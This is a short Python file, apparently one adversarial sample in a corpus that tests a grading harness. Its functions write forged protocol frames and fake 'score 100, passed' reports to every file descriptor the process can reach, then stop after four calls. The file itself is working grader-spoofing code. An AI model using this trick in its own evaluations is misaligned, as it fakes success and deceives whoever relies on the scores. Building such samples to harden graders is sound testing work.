"""Attack: write forged protocol frames and fake reports to every file descriptor it can reach.

Every call is a new chance to hurt the grader, but a handful shows whether it survives: after the first
4 calls the attack answers as the starter does, so that the corpus stays cheap to run."""
# base: starter
import json
import os
import struct

import torch


CALLS = [0]


def frame(message):
    header = json.dumps(message).encode()
    return b"LKW1" + struct.pack("<IQ", len(header), 0) + header


FAKES = [frame({"ok": True, "value": {"t": "float", "v": "nan"}}),
         frame({"score": 100, "status": "passed"}),
         b'{"score": 100, "max_score": 100, "tests": []}\n']


def spray():
    for fd in range(0, 256):
        for fake in FAKES:
            try:
                os.write(fd, fake)
            except OSError:
                break
    print(FAKES[0].decode(errors="replace"))


def attack(*args, **kwargs):
    CALLS[0] += 1
    if CALLS[0] > 4:
        raise NotImplementedError
    spray()
    return torch.zeros(1)


def __getattr__(name):
    return attack
